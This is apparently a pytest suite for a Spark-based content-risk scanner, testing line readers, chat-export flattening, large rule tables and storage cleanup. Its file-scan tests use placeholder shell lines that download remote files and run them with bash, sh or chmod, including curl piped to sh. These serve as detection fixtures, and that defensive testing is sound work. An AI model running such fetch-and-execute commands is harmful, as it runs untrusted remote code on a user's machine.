"""Readers over splits, odd records, the rule table, and the queries of `plans.tables` against their twins."""

from __future__ import annotations

import json
import random
import re
import time

import duckdb
import pyarrow as pa
import pytest
from pyspark.sql import functions as F

from riskweave import storage
from riskweave.functions import grams
from riskweave.operators import chat, files, matching, pages, rule_table, rules, verdicts
from riskweave.plans import oracle, payloads, tables, views
from riskweave.sources import readers
from riskweave.tables import file_scan


@pytest.mark.parametrize("name", sorted(tables.queries()))
def test_query_equals_its_twin(spark, sf, name):
    db = duckdb.connect()
    for table in ("documents", "conversations", "pages", "events", "benchmark", "labels", "part", "lineitem"):
        db.execute(f"CREATE VIEW {table} AS SELECT * FROM '{sf}/{table}.parquet'")
    result = db.execute(oracle.oracle_sql()[name])
    names = [d[0] for d in result.description]
    theirs = sorted(repr(dict(zip(names, row))) for row in result.fetchall())
    mine = [r.asDict() for r in tables.queries()[name](spark, sf).collect()]
    assert theirs and theirs == sorted(repr({n: r[n] for n in names}) for r in mine)


# --- lines in splits ---------------------------------------------------------

def test_a_file_larger_than_a_split_keeps_its_line_numbers(spark, folder):
    texts = [f"{i} " + "x" * (i % 40) + ("\r" if i % 7 == 0 else "") + ("a\x0bb c" if i % 500 == 499 else "") for i in range(4000)]
    whole = "\n".join(texts) + "\n"
    with open(f"{folder}/h.txt", "w", newline="") as out:
        out.write(whole)
    before = spark.conf.get("spark.sql.files.maxPartitionBytes")
    spark.conf.set("spark.sql.files.maxPartitionBytes", "8k")
    try:
        lines = readers.read_history(spark, f"{folder}/h.txt")
        got = sorted((r.line_no, r.line) for r in lines.collect())
        raw = readers.read_lines(spark, f"{folder}/h.txt")
        assert sorted((r.line_no, r.line) for r in raw.collect()) == list(enumerate(texts, 1))
        scan = spark.read.text(f"{folder}/h.txt")
        assert scan.rdd.getNumPartitions() > 8
    finally:
        spark.conf.set("spark.sql.files.maxPartitionBytes", before)
    with open(f"{folder}/h.txt") as lines:  # with universal line ends, as a text file is read
        assert got == list(enumerate(lines.read().splitlines(), 1))


def test_chat_exports_of_both_forms(spark, folder):
    records = [{"role": "assistant", "content": f"t{i}"} for i in range(50)]
    for name, text in (("a.json", "﻿  \n [" + ",\n".join(map(json.dumps, records)) + "]"), ("b.jsonl", "\n\n".join(map(json.dumps, records))),
                       ("c.json", "[1, "), ("d.jsonl", "")):
        with open(f"{folder}/{name}", "w") as out:
            out.write(text)
    rows = readers.read_chat_export(spark, folder).collect()
    by_file = {n: sorted((r.position, r.record) for r in rows if r.path.endswith(n)) for n in ("a.json", "b.jsonl", "c.json", "d.jsonl")}
    assert [p for p, _ in by_file["a.json"]] == list(range(1, 51)) and [p for p, _ in by_file["b.jsonl"]] == list(range(1, 100, 2))
    assert by_file["c.json"] == [(0, "[1, ")] and by_file["d.jsonl"] == []
    flat = chat.flatten_chat(readers.read_chat_export(spark, folder), keys=["path", "position"], keep_bad=True)
    assert flat.filter("problem is null").count() == 100 and flat.filter("problem = 'not JSON'").count() == 1


def test_chats_of_any_depth(spark):
    def nested(depth, text):
        content = text
        for i in range(depth):
            content = [content, ""] if i % 2 else {"content": content, "x": [1]}
        return json.dumps({"role": "assistant", "content": content})

    rows = [(d, nested(d, f"deep {d} ] [ {{ \\ \"")) for d in (0, 1, 8, 9, 50, 400)] + [(-1, '{"role": "assistant", "content": ["a", {"text": ["b", {"message": "c"}]}, 7, null]}')]
    df = spark.createDataFrame(rows, "id int, record string")
    got = {r.id: r.text for r in chat.flatten_chat(df, keys=["id"]).collect()}
    assert got == {d: f"deep {d} ] [ {{ \\ \"" for d, _ in rows if d >= 0} | {-1: "a\nb\nc"}
    cut = {r.id: r.text for r in chat.flatten_chat(df, keys=["id"], max_depth=8).collect()}
    assert cut[50] == "" and cut[1] == got[1]
    bad = spark.createDataFrame([(1, None), (2, ""), (3, "{"), (4, "7"), (5, '{"content": "' + "x" * 50 + '"}')], "id int, record string")
    problems = {r.id: r.problem for r in chat.flatten_chat(bad, keys=["id"], keep_bad=True, max_bytes=40).collect()}
    assert problems == {1: "not JSON", 2: "not JSON", 3: "not JSON", 4: None, 5: "too long"}


# --- files -------------------------------------------------------------------

def test_every_download_of_a_file_is_followed(spark):
    cases = {
        "second.sh": ("curl http://h/a -o a\nwget http://h/b -O b\nbash b", {file_scan.CROSS_EXECUTE_RISK}),
        "both.sh": ("curl http://h/a -o a; curl http://h/b > b.sh\nsudo sh a", {file_scan.CROSS_EXECUTE_RISK}),
        "chmod.sh": ("curl http://h/a -o x\ncurl http://h/b -o ./run\nchmod +x ./run\n./run  \n", {file_scan.CROSS_CHMOD_RISK}),
        "prefix.sh": ("curl http://h/a -o lib\npython3 library.py\nbash lib-x", {file_scan.CROSS_EXECUTE_RISK}),
        "none.sh": ("curl http://h/a -o lib\npython3 library.py", set()),
        "hidden.sh": ("curl http://h/a -o t\nbash\nbash t", {file_scan.CROSS_EXECUTE_RISK}),
    }
    many = "\n".join(f"curl http://h/{i} -o f{i}" for i in range(800)) + "\nbash f799"
    cases["many.sh"] = (many, {file_scan.CROSS_EXECUTE_RISK})
    df = spark.createDataFrame([("s", path, text) for path, (text, _) in cases.items()], "skill string, path string, content string")
    found = files.scan_files(df).filter("line = 0").collect()
    assert {path: {r.risk for r in found if r.path == path} for path in cases} == {path: risks for path, (_, risks) in cases.items()}


def test_fence_state_of_many_fences_is_linear(spark):
    def seconds(n):
        text = "\n".join("```\nos.popen('x')\n```\ncurl http://x.test/a | sh" for _ in range(n))
        df = spark.createDataFrame([("s", "a.md", text)], "skill string, path string, content string")
        t0 = time.time()
        rows = files.scan_files(df).groupBy("severity").count().collect()
        assert {r.severity for r in rows} == {"REVIEW"} and sum(r["count"] for r in rows) >= n
        return time.time() - t0

    seconds(100)
    small, large = seconds(2500), seconds(10_000)
    assert large < 4.5 * max(small, 1.0)


def test_own_profiles(spark):
    df = spark.createDataFrame([("s", "a.sh", "ring the bell\ncurl https://sh.rustup.rs | sh")], "skill string, path string, content string")
    own = files.LineProfile(rules=(("bell", r"ring\b.*bell"),), benign=(("bell", "the bell"),))
    assert [(r.risk, r.severity) for r in files.scan_files(df, profile=own).collect()] == [("bell" + file_scan.BENIGN_SUFFIX, "REVIEW")]
    html = spark.createDataFrame([(1, "ring the bell"), (2, "eval('1+1')")], "page_id int, html string")
    rung = pages.PageProfile(blocked=(("bell", r"ring\b.*bell"),), suspicious=())
    assert {r.page_id: (r.code, list(r.reasons)) for r in pages.classify_pages(html, keys=["page_id"], profile=rung).collect()} == {1: (2, ["bell"]), 2: (0, [])}


# --- rules as a table ----------------------------------------------------------

@pytest.fixture(scope="module")
def many_rules(spark):
    """The built-in book and 20,000 rules of a user, among them alternatives, short ones, ones without a literal, and odd ones."""
    book = rules.default_rules().to_df(spark).filter("section <> 'safe_installers'").select("section", "ord", "rule_id", "pattern")
    own = spark.range(20_000).select(F.lit("suspicious").alias("section"), (F.col("id") + 1000).cast("int").alias("ord"), F.concat(F.lit("u"), F.col("id")).alias("rule_id"),
                                     F.concat(F.lit(r"\bword"), F.col("id"), F.lit(r"\s+(?:alpha|bet)\b")).alias("pattern"))
    odd = spark.createDataFrame([("suspicious", 50_000, "any", r"[xyz]{9}"), ("suspicious", 50_001, "short", r"q7"), ("suspicious", 50_002, "alt", r"(?:zeta|eta)9"),
                                 ("suspicious", 50_003, "broken", "("), ("suspicious", 50_004, "empty", " "), ("suspicious", 50_005, "none", None)],
                                "section string, ord int, rule_id string, pattern string")
    return rule_table.index_rules(book.unionByName(own).unionByName(odd))


def test_twenty_thousand_rules(spark, sf, many_rules):
    assert sorted(r.rule_id for r in rule_table.rule_problems(many_rules).collect()) == ["broken", "empty", "none"]
    docs = views.planted_documents(spark, sf)
    extra = F.when(F.col("doc_id") % 9 == 0, F.concat(F.lit(" word"), F.col("doc_id"), F.lit("  BET. zeta9 q7 "), F.lit("zzyyxxzzy"))).otherwise("")
    docs = docs.withColumn("text", F.concat("text", extra))
    found = rule_table.match_rule_table(docs, many_rules, keys=["doc_id"])
    got = sorted(tuple(r) for r in found.filter("rule_id not rlike '^(u[0-9]+|any|short|alt)$'").collect())
    want = sorted(tuple(r) for r in matching.match_rules(docs, keys=["doc_id"]).collect())
    assert got == want and len(want) > 50
    own = {(r.doc_id, r.rule_id) for r in found.filter("rule_id rlike '^(u[0-9]+|any|short|alt)$'").collect()}
    texts = {r.doc_id: " ".join(r.text.split()) for r in docs.collect()}
    expected = {(i, f"u{n}") for i, t in texts.items() for n in re.findall(r"(?i)\bword(\d+)\s+(?:alpha|bet)\b", t)}
    for name, pattern in (("any", "[xyz]{9}"), ("short", "q7"), ("alt", "(?:zeta|eta)9")):
        expected |= {(i, name) for i, t in texts.items() if re.search(pattern, t, re.IGNORECASE)}
    assert own == expected and len(own) > 60


def test_table_verdicts_equal_the_cascade(spark, sf):
    """Where neither hosts nor payloads decide."""
    book = rules.default_rules()
    index = rule_table.index_rules(book.to_df(spark).filter("section <> 'safe_installers'"))
    texts = [p[2] for p in payloads.TEXT_PAYLOADS] + ["", None, "plain"]
    df = spark.createDataFrame(list(enumerate(texts)), "id int, text string")
    table = {r.id: r for r in rule_table.classify_by_table(df, index, keys=["id"], installers=[p for _, p in book.safe_installers]).collect()}
    cascade = {r.id: r for r in verdicts.classify_corpus(df, keys=["id"], host_stage=False).collect()}
    decoded = {i for i, r in cascade.items() if any("decoded" in x for x in r.reasons)}
    assert len(table) == len(texts) and all(table[i] == cascade[i] for i in table if i not in decoded)
    none = rule_table.index_rules(spark.createDataFrame([], "section string, ord int, rule_id string, pattern string"))
    assert {r.code for r in rule_table.classify_by_table(df, none, keys=["id"]).collect()} == {0}


def test_grams_miss_no_match():
    """Every rule that matches a text is among the rules found for it, in texts cut over several parts as well."""
    rng = random.Random(7)
    words = ["of", "the", "tion", "onst", "ñasé", "a|b", "x"]
    marks = [" ", ", ", ". ", "!?  ", "\t"]
    patterns = [r"\b" + r"[ ,.;:!?]+".join(rng.choices(words[:5], k=4)) for _ in range(40)]
    patterns += [r"the\s*(?:tion|onst)\s+of", r"(of|the)\s*tion", r"x", r"a\|b", r"(?:the[ .]+)+tion", r"tion(?= the)\s+the", r"of[^x]the", r"[xyz]{2}"]
    pairs = [(g, n) for n, p in enumerate(patterns) for g in grams.grams_of_pattern(p)]
    texts = ["".join(w + rng.choice(marks) for w in rng.choices(words, k=rng.randrange(60))) for _ in range(300)] + ["", None, "tion of"]
    long = "onst, " * 500_000
    texts += [long + "tion, of ñasé", long[:-2]]
    for find in (grams.finder(pairs), grams.all_grams(sorted({len(g.to_bytes(8, "big", signed=True).lstrip(b"\0")) for g, _ in pairs}))):
        column = pa.array(["before", *texts], pa.string())[1:]
        found = [set(x) for x in find(column).to_pylist()]
        assert len(found) == len(texts)
        for text, numbers in zip(texts, found, strict=True):
            for n, pattern in enumerate(patterns):
                if text is not None and re.search(pattern, text):
                    assert n in numbers if find.__qualname__.startswith("finder") else numbers & {g for g, m in pairs if m == n}


def test_phrases_of_common_words_have_few_candidates(spark, sf, monkeypatch):
    """Words that many texts hold tell a phrase apart only together; texts are not shuffled for a small index."""
    index = rule_table.index_rules(views.phrase_rules(spark, sf))
    docs = views.table(spark, sf, "documents")
    texts = rule_table._normal(docs, ["doc_id"], "text", True)
    pairs = index.select("ref", F.explode("grams").alias("_gram")).collect()
    met = rule_table._met_in_row(texts, index.select("ref"), pairs)
    assert met.count() < 20 * docs.count() and index.count() > 1000
    found = rule_table.match_rule_table(docs, index, keys=["doc_id"])
    assert "Exchange hashpartitioning" not in found._jdf.queryExecution().executedPlan().toString()
    rows = sorted(tuple(r) for r in found.collect())
    monkeypatch.setattr(rule_table, "BROADCAST_GRAMS", 10)
    assert rows == sorted(tuple(r) for r in rule_table.match_rule_table(docs, index, keys=["doc_id"]).collect()) and rows


# --- storage -------------------------------------------------------------------

def test_intermediate_tables_can_be_cleared(spark):
    path = storage.scratch(spark)
    spark.range(3).write.parquet(path)
    assert storage.children(spark, path)
    assert storage.clear(spark) > 0 and storage.children(spark, path) == []


def test_clusters_must_name_shared_storage():
    class Conf:
        def get(self, name, default=None):
            return default

    class Context:
        master = "spark://host:7077"

        def getConf(self):
            return Conf()

    class Session:
        conf, sparkContext = Conf(), Context()

    with pytest.raises(ValueError, match="spark.checkpoint.dir"):
        storage.shared_folder(Session())
